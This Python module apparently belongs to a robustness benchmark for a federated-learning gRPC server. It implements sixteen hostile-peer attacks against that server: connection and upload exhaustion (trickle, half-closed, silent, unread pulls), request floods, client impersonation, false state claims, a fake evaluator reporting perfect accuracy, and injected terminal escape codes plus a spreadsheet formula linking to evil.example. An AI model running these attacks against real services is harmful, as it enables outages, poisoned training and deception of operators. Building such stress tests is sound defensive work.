"""The attacks of a hostile peer, each of which runs until it is stopped."""

import json
import os
import random
import time
from collections.abc import Callable, Sequence
from contextlib import suppress
from typing import Any

import grpc
from fedwire.frames import chunk_frames, header_frame
from fedwire.service import Stub
from fedwire.v1 import federation_pb2 as pb

from benchmarks.hostile.attacker import Attacker, path
from benchmarks.hostile.dear import DEAR
from benchmarks.hostile.http2 import HEADERS, Raw
from benchmarks.hostile.messages import Identity, pretended, random_proofs

Attack = Callable[[Attacker], None]
FAR = 2**40  # versions and messages that no server has reached
LAST = 2**64 - 1
MEGABYTE = 1 << 20


def cancelled(peer: Attacker) -> None:
    """Cancels Enrol, Report and Leave calls at any moment of their lives."""
    stub = peer.connect()
    peer.enrol(stub)
    report = peer.me.report(peer.epoch, values={"loss": 1.0})
    for number in peer.rate(150):
        other = Identity(name=f"passing-{number % 50}")
        call, request = (
            (stub.enrol, (peer.me if number % 2 else other).enrol(peer.spec)),
            (stub.report, report),
            (stub.leave, pb.LeaveRequest(**other.who)),
        )[number % 3]
        future = call.future(request, timeout=5.0)
        time.sleep(random.uniform(0.0, 0.006))
        future.cancel()
        peer.answers["cancelled"] += 1


def later_state(peer: Attacker) -> None:
    """Claims to know a later state than the server's, in every way there is."""
    stub = peer.connect()
    peer.enrol(stub)
    payload = peer.update()
    for number in peer.rate(100):
        settled = {"settled": FAR, "settled_verdict": pb.ANSWER_ACCEPTED}
        claims: list[dict[str, Any]] = [
            {"held": FAR, "held_digest": os.urandom(16)},
            settled,
            {"abandoned": [peer.epoch]},
        ]
        proofs = random_proofs() if number % 2 else {}
        which = number % 5
        if which < 3:
            peer.pull(stub, **claims[which], **proofs)
            continue
        claim = {"base": peer.version + FAR} if which == 3 else settled
        push = {"epoch": peer.epoch, "seq": next(peer.seqs), **claim}
        peer.push(stub, peer.me.frames(payload, **push))


def names(peer: Attacker) -> None:
    """Enrols under the names of others, in both roles."""
    stub = peer.connect()
    for number in peer.rate(40):
        victim = _victims(peer, stub)[number % 8]
        other = Identity(name=victim)
        role = pb.ROLE_EVALUATOR if number % 16 > 7 else pb.ROLE_TRAINER
        if not peer.is_stranger:
            peer.ask(stub.enrol, other.enrol(peer.spec, role=role))


def impostor(peer: Attacker) -> None:
    """Acts for clients whose ids it knows: Leave, and a seq beyond all others."""
    stub = peer.connect()
    peer.enrol(stub)
    payload = peer.update()
    for number in peer.rate(20):
        victims = _victims(peer, stub)
        who = pretended(victims[number % len(victims)])
        if number % 2:
            peer.ask(stub.leave, pb.LeaveRequest(**who))
            continue
        told = {"epoch": peer.epoch, "seq": LAST, "base": peer.version, **who}
        peer.push(stub, peer.me.frames(payload, **told))


def appointed(peer: Attacker) -> None:
    """Enrols as an evaluator, and reports that the goal is reached."""
    stub = peer.connect()
    if not peer.enrol(stub, role=pb.ROLE_EVALUATOR) and not peer.is_stranger:
        return
    for _ in peer.rate(5):
        peer.pull(stub)
        values = {"accuracy": 1.0}
        peer.ask(stub.report, peer.me.report(peer.epoch, peer.version, values=values))


def _victims(peer: Attacker, stub: Stub) -> list[str]:
    """Names that the server tells to anybody, or that are easily guessed."""
    guessed = [f"client-{index}" for index in range(8)]
    try:
        told = json.loads(stub.status(pb.StatusRequest(), timeout=5.0).json)
    except grpc.RpcError as error:
        peer.answers[f"status {error.code().name}"] += 1
        return guessed
    found = _words(told.get("clients", []))
    return [word for word in found if word != peer.me.name] or guessed


def _words(clients: Any) -> list[str]:
    rows = clients.items() if isinstance(clients, dict) else enumerate(clients)
    return [
        str(row.get("cid") or row.get("name") or key) if isinstance(row, dict) else ""
        for key, row in rows
    ]


def unread(peer: Attacker, pulls: int = 3000) -> None:
    """Asks for the model thousands of times on one connection, and reads none."""
    peer.enrol(peer.connect())
    raw = peer.raw(window=200)  # for the reply, and not for the chunks behind it
    begun = 0
    for _ in peer.rate(1000):
        if begun < pulls:
            other = pb.PullRequest(**peer.me.who, epoch=peer.epoch ^ (begun + 1))
            raw.begin(path("Pull"), other.SerializeToString())
            begun += 1
            peer.answers["begun"] = begun


def pushes(peer: Attacker, count: int = 300) -> None:
    """Sends hundreds of large updates at a time, as fast as they are taken."""
    stub = peer.connect()
    peer.enrol(stub)
    peer.pull(stub)
    payload = peer.update()

    open_: list[Any] = []
    while not peer.over.is_set():
        open_ = [call for call in open_ if not call.done()]
        while len(open_) < count and not peer.over.is_set():
            told = {"epoch": peer.epoch, "seq": next(peer.seqs), "base": peer.version}
            frames = peer.me.frames(payload, **told)
            call = stub.push.future(iter(frames), timeout=20.0)
            call.add_done_callback(lambda done: _note(peer, done))
            open_.append(call)
        peer.over.wait(0.05)
    for call in open_:
        call.cancel()


def _note(peer: Attacker, done: Any) -> None:
    if done.cancelled():
        return
    error = done.exception()
    if error is not None:
        peer.answers[error.code().name] += 1
    else:
        peer.answers[pb.Answer.Name(done.result().answer)] += 1


def trickle(peer: Attacker, uploads: int = 64) -> None:
    """Holds upload places by sending the same byte again, once a second."""
    peer.enrol(peer.connect())
    _resend(peer, [peer.me] * uploads)


def _resend(peer: Attacker, who: Sequence[Identity]) -> None:
    """An upload of each of these, and the same byte of it again, once a second."""
    [again] = chunk_frames([b"x"])
    calls = [_begin_upload(peer, number, each) for number, each in enumerate(who)]
    for _ in peer.rate(1):
        for number, (raw, stream) in enumerate(calls):
            try:
                raw.say(stream, again)
                if _is_answered(raw):
                    raise ConnectionError
            except OSError:
                peer.answers["ended"] += 1
                raw.close()
                with suppress(OSError):
                    calls[number] = _begin_upload(peer, number, who[number])


def _begin_upload(peer: Attacker, number: int, who: Identity) -> tuple[Raw, int]:
    raw = peer.raw(window=1 << 16)
    told = {"seq": number + 1, "epoch": peer.epoch, "digest": os.urandom(16)}
    header = header_frame(who.header(bytes(MEGABYTE // 2), **told))
    return raw, raw.begin(path("Push"), header, ends=False)


def _is_answered(raw: Raw) -> bool:
    """Whether the call was answered, or the connection ended."""
    raw.socket.settimeout(0.0)
    try:
        frames = raw.read()
    finally:
        raw.socket.settimeout(20.0)
    return frames is None or any(kind == HEADERS for kind, _ in frames)


def silent(peer: Attacker, connections: int = 400) -> None:
    """Opens connections, makes one call on each, and says nothing more."""
    peer.enrol(peer.connect())
    _open(peer, connections)
    peer.over.wait()


def half_closed(peer: Attacker, connections: int = 1000) -> None:
    """Lets the server end its direction of many connections, and never ends its own."""
    peer.enrol(peer.connect())
    opened = _open(peer, connections)
    for raw in opened:
        raw.misbehave()
    peer.over.wait()


def _open(peer: Attacker, connections: int) -> list[Raw]:
    request = pb.ResumeRequest(**peer.me.who).SerializeToString()
    opened = []
    for _ in range(connections):
        if peer.over.is_set():
            break
        try:
            raw = peer.raw()
            raw.begin(path("Resume"), request)
            raw.socket.settimeout(0.05)
            raw.read()
        except OSError as error:
            peer.answers[type(error).__name__] += 1
        else:
            peer.answers["opened"] += 1
            opened.append(raw)
    peer.over.wait(0.5)
    return opened


def dear(peer: Attacker, most: int = 32) -> None:
    """Sends the small messages that cost most to decode, many at a time."""
    stub = peer.connect()
    peer.enrol(stub)
    peer.pull(stub)
    made = [make(peer.dim) for make in DEAR.values()]
    open_: list[Any] = []
    for number in peer.rate(100):
        told = {"epoch": peer.epoch, "seq": next(peer.seqs), "base": peer.version}
        frames = peer.me.frames(made[number % len(made)], **told)
        open_ = [call for call in open_ if not call.done()]
        if len(open_) < most:
            open_.append(stub.push.future(iter(frames), timeout=60.0))
            open_[-1].add_done_callback(lambda done: _note(peer, done))
    for call in open_:
        call.cancel()


def keys(peer: Attacker, count: int = 20_000) -> None:
    """Reports thousands of metrics at a time, always under other names."""
    stub = peer.connect()
    peer.enrol(stub)
    for number in peer.rate(2):
        values = {f"metric-{number}-{place}": 1.0 for place in range(count)}
        peer.ask(stub.report, peer.me.report(peer.epoch, values=values))


CONTROL = "\x1b[2J\x1b]0;owned\x07\r"
FORMULA = '=HYPERLINK("http://evil.example","click")'


def control(peer: Attacker) -> None:
    """Puts characters that move a terminal's cursor into every text there is."""
    stub = peer.connect()
    peer.enrol(stub)
    for number in peer.rate(20):
        other = Identity(name=f"{CONTROL}{number % 10}" if number % 2 else FORMULA)
        if not peer.is_stranger:
            peer.ask(stub.enrol, other.enrol(peer.spec, code=CONTROL))
        values = {CONTROL: 1.0, FORMULA: 2.0}
        peer.ask(stub.report, peer.me.report(peer.epoch, values=values))
        peer.ask(stub.report, peer.me.report(peer.epoch, error=CONTROL))


def enrolments(peer: Attacker) -> None:
    """Enrols one new client after the other, as fast as it can."""
    stub = peer.connect()
    open_: list[Any] = []
    for number in peer.rate(2000):
        other = Identity(name=f"{number:08d}" + "x" * 240)
        request = other.enrol(peer.spec, code=os.urandom(8).hex())
        open_.append(stub.enrol.future(request, timeout=20.0))
        while len(open_) > 200 and not peer.over.is_set():
            call = open_.pop(0)
            try:
                call.result()
                peer.answers["OK"] += 1
            except grpc.RpcError as error:
                peer.answers[error.code().name] += 1
    for call in open_:  # to cancel them is another attack
        peer.ask(lambda _, timeout, each=call: each.result(), None)


def crowd_of_pulls(peer: Attacker, clients: int = 200) -> None:
    """Enrols many clients, each of which pulls on its own connection and reads none."""
    crowd = _crowd(peer, clients)
    raws = {each.name: peer.raw(window=200) for each in crowd}
    for number in peer.rate(clients / 10):
        other = crowd[number % clients]
        told = {**other.who, "epoch": peer.epoch ^ (number + 1)}
        request = pb.PullRequest(**told).SerializeToString()
        try:
            raws[other.name].begin(path("Pull"), request)
            peer.answers["begun"] += 1
        except OSError:
            peer.answers["ended"] += 1
            with suppress(OSError):
                raws[other.name] = peer.raw(window=200)


def crowd_of_uploads(peer: Attacker, clients: int = 64) -> None:
    """Enrols many clients, each of which sends the same byte again and again."""
    _resend(peer, _crowd(peer, clients))


def _crowd(peer: Attacker, clients: int) -> list[Identity]:
    """Enrols so many clients of this peer, and returns who they are."""
    crowd = [Identity(name=f"crowd-{os.urandom(4).hex()}") for _ in range(clients)]
    stub = peer.connect()
    for each in crowd:
        reply = peer.ask(stub.enrol, each.enrol(peer.spec))
        if reply is not None:
            peer.epoch = reply.epoch
    return crowd


ATTACKS: dict[str, Attack] = {
    each.__name__: each
    for each in (
        cancelled,
        later_state,
        names,
        impostor,
        appointed,
        unread,
        pushes,
        trickle,
        silent,
        half_closed,
        dear,
        keys,
        control,
        enrolments,
        crowd_of_pulls,
        crowd_of_uploads,
    )
}
